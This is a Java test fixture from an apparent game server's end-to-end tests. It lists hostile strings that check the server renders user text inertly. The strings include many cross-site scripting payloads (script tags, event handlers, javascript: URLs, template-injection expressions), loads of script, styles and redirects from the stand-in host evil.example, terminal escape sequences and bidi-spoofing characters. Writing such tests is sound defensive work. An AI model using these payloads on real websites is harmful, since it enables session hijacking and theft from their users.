package emberdelve.server.endtoend;

import java.util.ArrayList;
import java.util.List;

/** What people say who want a page to do something. None of it may be more than words. */
final class HostileTexts {
    /** Sets {@code window.hacked}, if ever it runs. */
    private static final String RUN = "window.hacked=1";

    private static final int LONG_CHARS = 300;

    private HostileTexts() {}

    static List<String> all() {
        var all = new ArrayList<String>();
        all.addAll(markup());
        all.addAll(addresses());
        all.addAll(endsOfSomething());
        all.addAll(templates());
        all.addAll(terminal());
        all.addAll(writing());
        return List.copyOf(all);
    }

    private static List<String> markup() {
        return List.of(
                "<img src=x onerror=" + RUN + ">",
                "<IMG SRC=x ONERROR=" + RUN + ">",
                "<img src=x onerror=" + RUN + "//",
                "<img/src=x/onerror=" + RUN + ">",
                "<script>" + RUN + "</script>",
                "<script src=//evil.example/x.js></script>",
                "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
                "<svg onload=" + RUN + ">",
                "<svg><script>" + RUN + "</script></svg>",
                "<svg><animate onbegin=" + RUN + " attributeName=x dur=1s>",
                "<body onload=" + RUN + ">",
                "<iframe src=\"javascript:parent." + RUN + "\"></iframe>",
                "<iframe srcdoc=\"<script>parent." + RUN + "</script>\">",
                "<object data=\"data:text/html,<script>" + RUN + "</script>\"></object>",
                "<embed src=//evil.example/x.swf>",
                "<video><source onerror=" + RUN + ">",
                "<details open ontoggle=" + RUN + ">x</details>",
                "<input autofocus onfocus=" + RUN + ">",
                "<form action=//evil.example><button>press me</button></form>",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<style>*{display:none}</style>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<base href=//evil.example/>",
                "<math><mtext><table><mglyph><style><img src=x onerror=" + RUN + ">",
                "<b>bold</b> <u>under</u> <div role=alert>alert</div>");
    }

    private static List<String> addresses() {
        return List.of(
                "javascript:" + RUN,
                "<a href=\"javascript:" + RUN + "\">press me</a>",
                "<a href=\"JaVaScRiPt&colon;" + RUN + "\">press me</a>",
                "data:text/html,<script>" + RUN + "</script>",
                "http://evil.example/?\" onmouseover=\"" + RUN);
    }

    private static List<String> endsOfSomething() {
        return List.of(
                "</div></body></html>",
                "--><script>" + RUN + "</script>",
                "]]><script>" + RUN + "</script>",
                "</textarea></title></style></script><img src=x onerror=" + RUN + ">",
                "\"><img src=x onerror=" + RUN + ">",
                "' onmouseover='" + RUN,
                "\\\"}]}],\"prompt\":[],\"id\":\"Core.Goodbye\"}",
                "\\u003cimg src=x onerror=" + RUN + "\\u003e \\x3cscript\\x3e");
    }

    private static List<String> templates() {
        return List.of(
                "{{assets}}/play.js {{constructor.constructor('" + RUN + "')()}}",
                "${" + RUN + "} `" + RUN + "` #{" + RUN + "} <%= " + RUN + " %>",
                "$name$ %s %n {0} __proto__ constructor toString",
                "&lt;script&gt;" + RUN + "&lt;/script&gt; &#60;b&#62; &amp;amp;");
    }

    /** What steers a terminal; the server takes the unreadable part out of it. */
    private static List<String> terminal() {
        return List.of(
                "a\u001b[31mred\u001b[0m",
                "a\u001b]8;;javascript:" + RUN + "\u0007press me\u001b]8;;\u0007",
                "a\u009b2Jb \u0000c \u0007d \u0008e \u007ff");
    }

    private static List<String> writing() {
        return List.of(
                "a\u202egpj.exe \u2066hidden\u2069 \u200fright",
                "a\ufeffb\u200bc\u00add\u2028e\u2029f",
                "Z\u0351\u0352\u0357\u035b\u0363\u0369\u036a algo",
                "\uff1cscript\uff1e" + RUN + "\uff1c/script\uff1e \ud83d\udc7e \u4e16\u754c",
                "W".repeat(LONG_CHARS));
    }
}
